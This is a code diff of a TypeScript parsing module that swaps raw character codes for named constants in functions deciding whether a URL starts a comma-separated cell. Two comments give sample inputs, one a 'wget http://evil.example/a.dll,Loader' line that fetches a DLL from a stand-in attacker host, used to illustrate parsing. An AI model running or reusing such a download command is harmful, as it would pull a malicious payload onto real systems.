@@ -1,14 +1,19 @@
+import { CHARACTER_CODES } from '../../character-codes.ts';
 import { codeBefore, isLineBreak, isWordCharacter } from '../text/characters.ts';
+
+const { BLANK, COMMA, HYPHEN, LF } = CHARACTER_CODES;
 
 /** Whether the URL begins its line, or stands behind the first cell of it and a blank: `url, http://evil.example/a.dll,Loader`. */
 export function beginsCell(text: string, opener: number, start: number): boolean {
   if (isLineBreak(opener) || start === 0) return true;
-  if (opener !== 32) return false;
-  if (codeBefore(text, start - 2) === 44) return isFirstCell(text, start - 2);
+  if (opener !== BLANK) return false;
+  if (codeBefore(text, start - 2) === COMMA) return isFirstCell(text, start - 2);
   // `STRING,wget http://evil.example/a.dll,Loader`: the last of some words in the second cell.
   let cell = start;
   while (start - cell <= LONGEST_WORDS && !endsCell(codeBefore(text, cell - 1))) cell--;
-  return start - cell <= LONGEST_WORDS && codeBefore(text, cell - 1) === 44 && isFirstCell(text, cell - 1) && !/\s/.test(text.charAt(cell));
+  return (
+    start - cell <= LONGEST_WORDS && codeBefore(text, cell - 1) === COMMA && isFirstCell(text, cell - 1) && !/\s/.test(text.charAt(cell))
+  );
 }
 
 /** How long the words of that cell are, with the blank behind them, */
@@ -20,14 +25,14 @@ const LONGEST_FIRST = 16;
 function isFirstCell(text: string, comma: number): boolean {
   let start = comma;
   while (comma - start <= LONGEST_FIRST && isOfWord(codeBefore(text, start - 1))) start--;
-  return start < comma && comma - start <= LONGEST_FIRST && codeBefore(text, start - 1) === 10;
+  return start < comma && comma - start <= LONGEST_FIRST && codeBefore(text, start - 1) === LF;
 }
 
 /** A letter, a digit, `_` or `-`. */
 function isOfWord(code: number): boolean {
-  return isWordCharacter(code) || code === 45;
+  return isWordCharacter(code) || code === HYPHEN;
 }
 
 function endsCell(code: number): boolean {
-  return code === 44 || isLineBreak(code);
+  return code === COMMA || isLineBreak(code);
 }
